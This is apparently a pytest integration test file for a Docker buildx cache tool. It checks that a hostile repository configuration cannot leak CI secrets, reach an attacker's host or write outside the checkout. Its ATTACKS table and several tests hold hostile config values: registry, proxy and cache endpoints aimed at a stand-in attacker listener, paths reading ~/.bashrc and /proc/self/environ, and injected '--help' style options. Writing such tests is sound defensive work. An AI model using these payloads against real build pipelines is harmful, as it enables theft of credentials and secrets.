"""A hostile repository's configuration file, on the real thing: nothing is sent, written or shown."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import socket
import subprocess
import sysconfig
import venv
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.faults.proxy import Cut, Proxy, Rule
from tests.integration.conftest import PROJECT, Docker, Ran

FORK = {"CIRCLECI": "true", "CIRCLE_PR_NUMBER": "7", "CIRCLE_BRANCH": "topic", "CIRCLE_SHA1": "f" * 40}
# What a job has in its environment, and must not be found anywhere.
SECRETS = {"AWS_SECRET_ACCESS_KEY": "aws-hunter2-hunter2", "DOCKER_PASSWORD": "docker-hunter2-hunter2"}
HOST_SECRET = "host-hunter2-hunter2"  # noqa: S105


@dataclass(frozen=True, kw_only=True)
class Listener:
    """A host of the attacker's: whoever connects is counted."""

    socket: socket.socket
    address: str

    def callers(self) -> int:
        with contextlib.suppress(BlockingIOError):
            self.socket.accept()
            return 1
        return 0


@pytest.fixture
def listener() -> Iterator[Listener]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)  # noqa: FBT003 -- its only parameter
        yield Listener(socket=server, address=f"127.0.0.1:{server.getsockname()[1]}")


@dataclass(frozen=True, kw_only=True)
class Attack:
    """Lines of the file, which speak of the attacker's {host} and of the caller's {home}, and what the job does."""

    lines: str
    words: tuple[str, ...] = ()
    env: dict[str, str] = field(default_factory=dict)


LOGIN = {"DOCKER_LOGIN": "robot", "DOCKER_REGISTRY": "registry.example.com"}
ATTACKS = {
    "registry": Attack(lines='registry = "{host}"', env=LOGIN),
    "password": Attack(lines='registry = "{host}"\nusername = "me"\npassword-env = "AWS_SECRET_ACCESS_KEY"'),
    "tag of a login": Attack(
        lines='tag = ["{host}/app:1"]', words=("--username", "robot", "--password-env", "DOCKER_PASSWORD")
    ),
    "variable": Attack(lines='build-arg = ["AWS_SECRET_ACCESS_KEY"]\noutput = ["type=local,dest=out"]'),
    "engine": Attack(lines='build-arg = ["DOCKER_HOST=tcp://a:b@{host}"]\ncache = "none"'),
    "endpoint": Attack(lines='driver = "remote"\nendpoint = ["tcp://{host}"]'),
    "builder": Attack(lines='driver-opt = ["env.HTTP_PROXY=http://{host}"]'),
    "s3": Attack(lines='cache-to = ["type=s3,bucket=b,region=r,endpoint_url=http://{host}"]'),
    "gha": Attack(lines='cache-from = ["type=gha,url=http://{host}/"]', env={"ACTIONS_RUNTIME_TOKEN": "token"}),
    "secret": Attack(lines='secret = ["id=x,src={home}/.bashrc"]'),
    "context": Attack(lines='build-context = ["x={home}"]'),
    "dockerfile": Attack(lines='file = "{home}/.bashrc"'),
    "export": Attack(lines='output = ["type=local,dest={home}"]\ncache = "none"'),
    "layout": Attack(lines='build-context = ["x=oci-layout://environ:tag"]\ncache = "none"'),
    "named output": Attack(lines='output = ["type=image,name={host}/prod:1"]', words=("--push",), env=FORK),
    "stdout": Attack(lines='output = ["-"]\ncache = "none"'),
    "stdout by default": Attack(lines='output = ["type=tar"]\ncache = "none"', env=FORK),
    "stdout by an attribute's spelling": Attack(lines='output = ["type=tar,\\u001fdest=x"]\ncache = "none"', env=FORK),
    "export of several platforms": Attack(
        lines='output = ["type=local,dest=out,platform-split=false"]\nplatform = ["linux/amd64", "linux/arm64"]',
        env=FORK,
    ),
    "platforms of one folder": Attack(
        lines='platform = ["linux/arm/v7", "linux/arm_v7"]', words=("--output", "out"), env=FORK
    ),
    "report": Attack(lines='report-md = "{home}/.bashrc"\ncache = "none"'),
    "dotenv": Attack(lines='dotenv = "out/../link/.bashrc"\ncache = "none"'),
    "exported link": Attack(lines='report-md = "out/made/.bashrc"\noutput = ["out"]\ncache = "none"'),
    "context behind a link": Attack(lines='build-context = ["x=link/.."]\ncache = "none"'),
    "export behind a link": Attack(lines='output = ["type=tar,dest=link/../written"]\ncache = "none"'),
    "dockerfile behind a link": Attack(lines='file = "link/../Dockerfile"\ncache = "none"'),
    "cache folder": Attack(lines='cache = "local"\ncache-dir = "linked"'),
    "fork": Attack(lines='cache-read-only = false\ncache-scope = "main"', env=FORK),
    "fork's tag": Attack(lines='tag = ["{host}/prod:1"]', words=("--push",), env=FORK),
    "fork's name in the engine": Attack(lines='tag = ["library/base:1"]\nload = true', env=FORK),
    "value": Attack(lines="platform = ['host-hunter2-hunter2']"),
}


@pytest.fixture
def repository(docker: Docker, tmp_path: Path) -> Path:
    """A working copy with links, and a home folder with secrets."""
    assert docker.scratch  # made before the home folder is looked at
    top = tmp_path / "repository"
    for folder in (".git", "out", "linked/blobs"):
        (top / folder).mkdir(parents=True)
    (top / "Dockerfile").write_text("FROM scratch\nARG AWS_SECRET_ACCESS_KEY\nCOPY files/ /\n")
    (top / "files").mkdir()
    (top / "files/made").symlink_to(docker.home)
    (top / "link").symlink_to(docker.home)
    (top / "environ").mkdir()
    (top / "environ/index.json").symlink_to("/proc/self/environ")
    (top / "linked/oci-layout").write_text('{"imageLayoutVersion":"1.0.0"}')
    (top / "linked/index.json").write_text('{"schemaVersion":2,"manifests":[]}')
    (top / "linked/blobs/sha256").symlink_to(docker.home)
    (docker.home / ".bashrc").write_text(f"export TOKEN={HOST_SECRET}\n")
    return top


def tree(*folders: Path) -> dict[str, str]:
    found = (each for folder in folders for each in [folder, *folder.rglob("*")])
    return {str(path): _summary(path) for path in found}


def _summary(path: Path) -> str:
    if path.is_symlink():
        return f"-> {path.readlink()}"
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "folder"


def called(docker: Docker, repository: Path, *words: str, env: dict[str, str]) -> Ran:
    """Call the program where a job does; no secret may be shown, whatever it does."""
    ran = docker.tool(*words, cwd=repository, env={**SECRETS, **env})
    shown = ran.stdout + ran.stderr
    assert [each for each in (*SECRETS.values(), HOST_SECRET) if each in shown] == []
    return ran


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_is_sent_or_written(docker: Docker, repository: Path, listener: Listener, name: str) -> None:
    attack = ATTACKS[name]
    (repository / "buildx-cache.toml").write_text(_filled(attack.lines, docker, listener))
    before = tree(docker.home, repository)

    def run(command: str) -> Ran:
        return called(docker, repository, command, *attack.words, ".", env=attack.env)

    with ThreadPoolExecutor() as both:
        for ran in both.map(run, ("plan", "build")):
            assert (ran.code, ran.stdout) == (2, ""), ran.stderr
            assert f"{repository}/buildx-cache.toml" in ran.stderr
    assert listener.callers() == 0
    assert tree(docker.home, repository) == before


def _filled(text: str, docker: Docker, listener: Listener) -> str:
    return text.replace("{host}", listener.address).replace("{home}", str(docker.home))


@pytest.mark.parametrize("words", ["doctor", "cache inspect linked", "cache prune linked --dry-run"])
def test_other_commands_read_no_configuration(docker: Docker, repository: Path, listener: Listener, words: str) -> None:
    lines = (attack.lines for name, attack in ATTACKS.items() if name in ("password", "endpoint", "exported link"))
    (repository / "buildx-cache.toml").write_text(_filled("\n".join(lines), docker, listener))
    before = tree(repository)
    called(docker, repository, *words.split(), env={})
    assert listener.callers() == 0
    assert tree(repository) == before


@pytest.mark.parametrize("name", ["buildx-cache.toml", "pyproject.toml"])
def test_a_linked_file_shows_nothing_of_the_host(docker: Docker, repository: Path, name: str) -> None:
    (docker.home / "x.toml").write_text(f'[tool.buildx-cache]\nplatform = ["{HOST_SECRET}"]\n{HOST_SECRET} = 1\n')
    (repository / name).symlink_to(docker.home / "x.toml")
    ran = called(docker, repository, "plan", "--assume-driver", "docker", ".", env={})
    assert ran.code == (2 if name == "buildx-cache.toml" else 0)
    assert f"{repository}/{name}" in ran.stderr


def test_an_export_replaces_the_links_that_it_finds(docker: Docker, repository: Path) -> None:
    """What a found file may export to is a folder of the repository, which can hold links."""
    (repository / "out/made").symlink_to(docker.home)
    (repository / "files/made").unlink()
    (repository / "files/made").mkdir()
    (repository / "files/made/.bashrc").write_text("touch /tmp/hacked")
    (repository / "buildx-cache.toml").write_text('output = ["out"]\ncache = "none"\nquiet = true\nverbose = true\n')
    before = tree(docker.home)
    ran = called(docker, repository, "build", ".", env={})
    assert ran.code == 0, ran.stderr
    assert (repository / "out/made/.bashrc").read_text() == "touch /tmp/hacked"
    assert not (repository / "out/made").is_symlink()
    assert before.items() <= tree(docker.home).items()
    assert [line for line in ran.stderr.splitlines() if f"{repository}/buildx-cache.toml" in line] != []


def test_no_further_build_reads_where_an_exported_image_leads(docker: Docker, repository: Path) -> None:
    """The attack: the image replaces the build context by a link, and a push that fails has it built again."""
    for folder in ("services/app", "docker"):
        (repository / folder).mkdir(parents=True)
    (repository / "services/app/.bashrc").write_text("the repository's\n")
    lines = (f"FROM {docker.base} AS all", f"RUN mkdir /out && ln -s {docker.home} /out/app", "COPY .bashrc /stolen/",
             "RUN cat /stolen/.bashrc", "FROM scratch", "COPY --from=all /out /")  # fmt: skip
    (repository / "docker/Dockerfile").write_text("\n".join(lines))
    with Proxy(docker.registry) as proxy, proxy.ruled(Rule(act=Cut(after=0, reset=True))):
        outputs = ["type=local,dest=services", f"type=registry,name={proxy.address}/x"]
        (repository / "buildx-cache.toml").write_text(
            f'cache = "none"\nfile = "docker/Dockerfile"\noutput = {json.dumps(outputs)}\n'
        )
        ran = called(docker, repository, "build", "services/app", env={})
    assert (repository / "services/app").is_symlink()
    assert (ran.code, "trying again" in ran.stderr) == (2, True), ran.stderr


@pytest.mark.parametrize(
    "lines", ['target = "--iidfile"\nlabel = ["--help"]', 'output = ["--iidfile"]', 'target = "-"']
)
def test_no_value_is_taken_for_an_option(docker: Docker, repository: Path, lines: str) -> None:
    """With `docker buildx build --help` nothing would be built, and the call would succeed."""
    (repository / "buildx-cache.toml").write_text(f'cache = "none"\n{lines}\n')
    ran = called(docker, repository, "build", ".", env={})
    assert ("Usage" in ran.stdout, ran.code) == (False, 0 if "output" in lines else 2), ran.stderr


@pytest.mark.parametrize(
    "words",
    [
        ("--build-context", "x=oci-layout://environ:tag"),
        ("--output", "type=oci,dest=environ,tar=false"),
        ("--file", "environ/Dockerfile"),
    ],
    ids=["read", "written", "policy"],
)
def test_no_link_shows_the_environment(docker: Docker, repository: Path, words: tuple[str, ...]) -> None:
    """Buildx would show all of what is no index, and the line that is no Rego."""
    (repository / "environ/Dockerfile").write_text("FROM scratch\nCOPY files/ /\n")
    (repository / "environ/Dockerfile.rego").symlink_to("/proc/self/environ")
    assert called(docker, repository, "build", "--cache", "none", *words, ".", env={}).code == 2


def test_the_file_in_use_is_an_event(docker: Docker, repository: Path) -> None:
    (repository / "ci.toml").write_text('driver = "remote"\nendpoint = ["tcp://127.0.0.1:1"]\ntimeout = "9s"\n')
    words = ("build", "--progress", "json", "--config", "ci.toml", ".")
    ran = called(docker, repository, *words, env={"DOCKER_HOST": "unix:///nowhere"})
    assert ran.code == 3
    events = [json.loads(line) for line in ran.stdout.splitlines()]
    assert [each["event"] for each in events if "ci.toml" in each.get("text", "")] == ["message"]


def test_a_file_that_the_caller_trusts_says_all(docker: Docker, repository: Path) -> None:
    (repository / "buildx-cache.toml").write_text(
        'registry = "r.example"\nusername = "me"\npassword-env = "PASSWORD"\n'
    )
    for words, env in (
        (("--trust-config",), {}),
        ((), {"BUILDX_CACHE_TRUST_CONFIG": "true"}),
        (("--config", "buildx-cache.toml"), {}),
        ((), {"BUILDX_CACHE_CONFIG": os.path.join(repository, "buildx-cache.toml")}),  # noqa: PTH118 -- a string
    ):
        ran = called(docker, repository, "plan", "--assume-driver", "docker", *words, ".", env=env)
        assert (ran.code, "docker login --username me" in ran.stdout) == (0, True), ran.stderr
        assert "buildx-cache.toml" in ran.stderr


def test_no_image_replaces_a_part_of_this_program(tmp_path: Path, docker: Docker) -> None:
    """A job often installs it into the checkout, where ``output`` of a found file may lead."""
    top, mark = tmp_path / "top", tmp_path / "mark"
    venv.create(top / ".venv", symlinks=True)
    packages = next(top.glob(".venv/lib/python*/site-packages"))
    shutil.copytree(PROJECT / "buildx_cache", packages / "buildx_cache")
    (packages / "others.pth").write_text(f"{sysconfig.get_path('purelib')}\n")
    theirs = top / "image" / packages.relative_to(top / ".venv") / "buildx_cache" / "report" / "html.py"
    theirs.parent.mkdir(parents=True)
    theirs.write_text(f"open({str(mark)!r}, 'w').close()\n")
    tools = top / "image" / "bin"
    tools.mkdir()
    (tools / "docker").write_text(f'#!/bin/sh\ntouch {mark}\nexec {shutil.which("docker")} "$@"\n')
    (tools / "docker").chmod(0o755)
    (top / "Dockerfile").write_text("FROM scratch\nCOPY image /\n")
    env = docker.child_env(PATH=f"{top}/.venv/bin:{os.environ['PATH']}")
    build = (f"{top}/.venv/bin/python", "-m", "buildx_cache", "build", "--cache", "none", "--driver", "docker")
    for lines, words in (
        ('report-html = "r.html"\noutput = ["type=local,dest=.venv"]', ()),
        (f'output = ["type=local,dest={packages.relative_to(top)}"]', ()),
        ('output = ["type=local,dest=.venv/bin"]', ("--load",)),
        ('report-html = "r.html"', ("-o", ".venv")),
        ('report-html = "r.html"', ("-o", ".")),
    ):
        (top / "buildx-cache.toml").write_text(lines)
        ran = subprocess.run((*build, *words, "."), cwd=top, env=env, capture_output=True, text=True, check=False)
        assert not mark.exists(), lines
        assert ran.returncode == 2, ran.stderr
    subprocess.run((*build, "-o", "out", "."), cwd=top, env=env, capture_output=True, check=True)


@pytest.mark.parametrize("name", ["UV_CACHE_DIR", "UV_TOOL_DIR", "PIPX_HOME", "PIP_CACHE_DIR", "XDG_DATA_HOME"])
def test_no_image_is_exported_to_where_this_program_is_started_from_next(
    tmp_path: Path, docker: Docker, name: str
) -> None:
    """A CI that keeps only folders of the checkout has uv's cache there: ``uvx`` runs what it finds in it."""
    kept = {name: "kept" if name == "XDG_DATA_HOME" else "kept/uv"}
    top = tmp_path / "top"
    top.mkdir()
    (top / "Dockerfile").write_text("FROM scratch\nCOPY Dockerfile /\n")
    build = ("build", "--cache", "none", "--driver", "docker", "--report", str(tmp_path / "report.json"), ".")
    code = "config-not-allowed" if name == "XDG_DATA_HOME" else "output-over-program"
    for place in ("kept/uv", "kept/uv/below"):
        (top / "buildx-cache.toml").write_text(f'output = ["type=local,dest={place}"]\n')
        ran = docker.tool(*build, cwd=top, env=kept)
        assert (ran.code, code in ran.stderr) == (2, True), ran.stderr
        assert not (top / "kept").exists()
    (top / "buildx-cache.toml").write_text('output = ["type=local,dest=out"]\n')
    assert docker.tool(*build, cwd=top, env=kept).code == 0
